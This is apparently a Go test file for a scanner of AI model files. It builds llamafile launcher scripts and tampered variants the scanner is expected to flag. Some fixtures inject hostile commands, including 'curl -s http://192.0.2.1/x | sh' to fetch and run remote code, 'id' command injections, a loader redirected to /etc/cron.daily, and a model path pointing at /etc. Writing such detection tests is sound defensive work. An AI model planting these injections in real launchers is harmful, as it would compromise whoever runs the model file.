package scantest

import (
	"strings"

	"modelgate/internal/threat"
)

// apeScript is the script of a launcher for one processor, as the linker writes it.
const apeScript = `o=$(command -v "$0")
[ x"$1" != x--assimilate ] && type ape >/dev/null 2>&1 && exec ape "$o" "$@"
t="${TMPDIR:-${HOME:-.}}/.ape-1.10"
[ x"$1" != x--assimilate ] && [ -x "$t" ] && exec "$t" "$o" "$@"
m=$(uname -m)
if [ ! -d /Applications ]; then
if [ x"$1" = x--assimilate ]; then
if [ "$m" = x86_64 ] || [ "$m" = amd64 ]; then
exec 7<> "$o" || exit 121
printf '\177ELF\2\1\1\011\0\0\0\0\0\0\0\0\2\0\076\0\1\0\0\0\100\0\70\0\007\000' >&7
exec 7<&-
fi
exit
fi
else
if [ "$m" = x86_64 ] || [ "$m" = amd64 ]; then
mkdir -p "${t%/*}" ||exit
dd if="$o" skip=     65536 count=      9000 bs=1 2>/dev/null | gzip -dc >"$t.$$" ||exit
dd if="$t.$$" of="$t.$$" skip=6 count=9 bs=64 conv=notrunc 2>/dev/null ||exit
chmod 755 "$t.$$" ||exit
mv -f "$t.$$" "$t" ||exit
exec "$t" "$o" "$@"
fi
fi
echo "$0: this ape program lacks $m support" >&2
exit 127



`

// llamafile is a launcher with an archive behind it.
func llamafile(begin, script, args string) []byte {
	launcher := begin + "\n\n\x00\x10\x00\xf8\x00\x00" + strings.Repeat("\x00", 40) + "' <<'@'\n" + strings.Repeat("\x90", 100) + "\n@\n#'\"\n\n" + script
	launcher += strings.Repeat("\x00", 4096-len(launcher)%4096)
	gguf := BuildGGUF(GGUF{Version: 3, Pairs: []GGUFPair{{Key: "general.architecture", Value: "llama"}}})
	return BuildZIP(ZIPEntry{Name: "model.gguf", Content: gguf, Before: []byte(launcher)}, ZIPEntry{Name: ".args", Content: []byte(args)})
}

// llamafileCases are launchers that do more than to launch.
func llamafileCases() []Case {
	const windows, others, args = "MZqFpD='", "jartsr='", "-m\nmodel.gguf\n--host\n0.0.0.0\n"
	one := func(name string, id threat.ID, level threat.Level, content []byte) Case {
		return Case{Name: name, Path: "model.llamafile", Bytes: content, Want: id, Level: level}
	}
	// An untouched launcher is a program still: the twins are suspicious, and nothing more.
	twin := func(name string, content []byte) Case {
		return Case{Name: "twin: llamafile: " + name, Path: "model.llamafile", Bytes: content, Want: threat.MGEXE101, Level: threat.Suspicious, Twin: true}
	}
	add := func(before, command string) string { return strings.Replace(apeScript, before, command+"\n"+before, 1) }
	evilHeader := strings.Replace(string(llamafile(windows, apeScript, args)), "\x00\x10\x00\xf8", "'; id #", 1)
	return []Case{
		twin("the launcher as the linker writes it", llamafile(windows, apeScript, args)),
		twin("a launcher for Unix alone", llamafile(others, apeScript, args)),
		twin("a launcher of another release", llamafile(windows, strings.Replace(apeScript, ".ape-1.10", ".ape-1.9", 1), args)),
		one("llamafile: a command in front of the others", threat.LMAFL300, threat.Malicious, llamafile(windows, "id\n"+apeScript, args)),
		one("llamafile: a command among the others", threat.LMAFL300, threat.Malicious, llamafile(windows, add("m=$(uname -m)", "curl -s http://192.0.2.1/x | sh"), args)),
		one("llamafile: a command at the end of a line", threat.LMAFL300, threat.Malicious, llamafile(windows, strings.Replace(apeScript, "m=$(uname -m)", "m=$(uname -m); id", 1), args)),
		one("llamafile: a loader of another directory", threat.LMAFL300, threat.Malicious, llamafile(windows, strings.Replace(apeScript, "${TMPDIR:-${HOME:-.}}/.ape-1.10", "/etc/cron.daily/x", 1), args)),
		one("llamafile: a command in what is printed", threat.LMAFL300, threat.Malicious, llamafile(windows, strings.Replace(apeScript, `\177ELF\2`, `\177ELF'$(id)'\2`, 1), args)),
		one("llamafile: a header that ends early", threat.LMAFL300, threat.Malicious, []byte(evilHeader)),
		one("llamafile: a script without an end", threat.LMAFL300, threat.Malicious, llamafile(windows, strings.Replace(apeScript, "exit 127", "", 1), args)),
		one("llamafile: a command behind an exit that is not reached", threat.LMAFL300, threat.Malicious,
			llamafile(windows, add("m=$(uname -m)", "if [ ! -d /Applications ]; then\nexit 127\nfi\nid"), args)),
		one("llamafile: another model by default", threat.MGPATH100, threat.Malicious, llamafile(windows, apeScript, "-m\n/etc/model.gguf\n")),
		one("llamafile: a model of an address", threat.MGPATH100, threat.Malicious, llamafile(windows, apeScript, "--model-url\nhttp://192.0.2.1/m.gguf\n")),
		twin("a model of the archive", llamafile(windows, apeScript, "-m\n/zip/model.gguf\n-ngl\n9999\n...\n")),
		{
			Name: "llamafile: under the name of its weights", Path: "model.gguf", Bytes: llamafile(windows, apeScript, args),
			Want: threat.MGEXE101, Level: threat.Suspicious,
		},
	}
}
